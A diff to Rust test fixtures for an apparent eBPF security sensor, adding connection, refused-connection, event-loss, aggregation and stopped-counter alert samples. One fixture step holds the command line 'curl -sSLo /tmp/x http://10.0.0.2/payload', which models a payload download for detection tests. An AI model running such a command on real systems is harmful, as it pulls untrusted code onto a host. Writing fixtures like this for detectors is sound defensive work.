@@ -4,12 +4,14 @@ use std::net::{IpAddr, Ipv4Addr};
 use std::sync::Arc;
 
 use jiff::Timestamp;
+use sensor_ebpf::wire::counter::Counter;
 use uuid::Uuid;
 
 use crate::alert::{
-    Action, Alert, Coverage, Detection, HookCoverage, Loss, Message, Notice, Step, Subject, Tampering,
+    Action, Aggregate, Alert, Coverage, Detection, HookCoverage, LedgerRow, Loss, Message, Notice, Place,
+    Step, Stopped, Subject, Tampering, Target, Window,
 };
-use crate::event::{Body, Event, Protocol};
+use crate::event::{Body, Direction, Event, Protocol};
 use crate::sigma::Level;
 use crate::sink::Origin;
 use crate::state::container::{Container, Pod, Runtime};
@@ -122,23 +124,16 @@ pub(crate) fn alert() -> Alert {
                 0,
                 Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
             ),
-            step(12, Action::Connected { protocol: Protocol::Tcp, address: ADDRESS, port: 80 }),
+            step(12, Action::Connected { place: place(None), direction: Direction::Outbound }),
             step(
                 15,
                 Action::Wrote { path: "/tmp/x".to_owned(), bytes: Some(1_258_291), size: Some(1_258_291) },
             ),
-            step(
-                19,
-                Action::Disconnected {
-                    address: ADDRESS,
-                    port: 80,
-                    bytes_sent: 92,
-                    bytes_received: 1_258_291,
-                },
-            ),
+            step(19, Action::Disconnected { place: place(None), bytes_sent: 92, bytes_received: 1_258_291 }),
             step(20, Action::Exited { status: Some(0), signal: None }),
         ],
         steps_omitted: 0,
+        bytes_omitted: (0, 0),
         pending: Vec::new(),
     }
 }
@@ -147,6 +142,34 @@ pub(crate) fn alert() -> Alert {
 pub(crate) fn event() -> Event {
     let Alert { process, ancestors, container, user, .. } = alert();
     Event { time: 0, process, ancestors, container, user, body: Body::ProcessCreation }
+}
+
+fn place(name: Option<&str>) -> Place {
+    Place { protocol: Protocol::Tcp, address: ADDRESS, port: 80, name: name.map(Arc::from) }
+}
+
+/// The same with all that a connection can be: it has a name, another one was refused, and it goes on.
+pub(crate) fn connections() -> Alert {
+    let mut alert = alert();
+    let refused = Place { port: 443, ..place(Some("files.example.com")) };
+    let inbound = Place { port: 50_123, ..place(None) };
+    let named = place(Some("files.example.com"));
+    let actions = [
+        (10, Action::Connected { place: refused.clone(), direction: Direction::Outbound }),
+        (11, Action::Failed { place: refused, error: 111 }),
+        (12, Action::Connected { place: named.clone(), direction: Direction::Outbound }),
+        (600, Action::Connected { place: inbound, direction: Direction::Inbound }),
+        (5_000, Action::Transferred { place: named, socket: 1, bytes_sent: 3 << 20, bytes_received: 92 }),
+    ];
+    let first = alert.steps.swap_remove(0);
+    alert.steps = vec![first];
+    alert.steps.extend(actions.into_iter().map(|(milliseconds, action)| Step {
+        offset: milliseconds * MILLISECOND,
+        pid: 4242,
+        program: "curl".to_owned(),
+        action,
+    }));
+    alert
 }
 
 pub(crate) fn message() -> Message {
@@ -219,6 +242,8 @@ pub(crate) fn hostile() -> Alert {
     let steps = [
         Action::Executed { command_line: hostile_text() },
         Action::Opened { path: hostile_text() },
+        Action::Connected { place: place(Some(&hostile_text())), direction: Direction::Unknown },
+        Action::Failed { place: place(Some(&hostile_text())), error: 0 },
         Action::Wrote { path: hostile_text(), bytes: Some(u64::MAX), size: Some(0) },
         Action::Linked { from: hostile_text(), to: hostile_text() + "l" },
         Action::Deleted { path: hostile_text() },
@@ -279,8 +304,34 @@ pub(crate) fn coverage() -> Message {
 
 pub(crate) fn loss() -> Message {
     notice(Subject::Loss(vec![
-        Loss { what: "network_connect".to_owned(), count: 12_408, reason: "ring full" },
-        Loss { what: "syslog udp://127.0.0.1:514".to_owned(), count: 3, reason: "queue full" },
+        Loss {
+            what: "network_connect".to_owned(),
+            count: 12_408,
+            reason: "ring full",
+            container: Some(Arc::new(container())),
+            window: Some(window()),
+        },
+        Loss {
+            what: "syslog udp://127.0.0.1:514".to_owned(),
+            count: 3,
+            reason: "queue full",
+            ..Loss::default()
+        },
+    ]))
+}
+
+fn window() -> Window {
+    Window { from: "2026-11-21T12:03:12.28Z".parse().unwrap(), to: time() }
+}
+
+pub(crate) fn aggregation() -> Message {
+    let row = |what, count, target, container| Aggregate { what, count, container, target, window: window() };
+    let inside = Some(Arc::new(container()));
+    let process = Target::Process { pid: 4242, program: Some("make".to_owned()) };
+    notice(Subject::Aggregation(vec![
+        row("network_connect", 980_000, Target::Destination(place(None)), inside.clone()),
+        row("network_connect", 75, Target::Others, inside),
+        row("file_open", 1_200, process, None),
     ]))
 }
 
@@ -297,5 +348,7 @@ pub(crate) fn tampering() -> Message {
 }
 
 pub(crate) fn stopped() -> Message {
-    notice(Subject::Stopped { alerts: 4, events: 120_034 })
+    let counter = Counter { generated: 120_100, delivered: 120_034, filtered: 66, ..Counter::default() };
+    let ledger = vec![LedgerRow { kind: "process_exec", counter }];
+    notice(Subject::Stopped(Stopped { alerts: 4, events: 120_034, untaken_connections: 0, ledger }))
 }
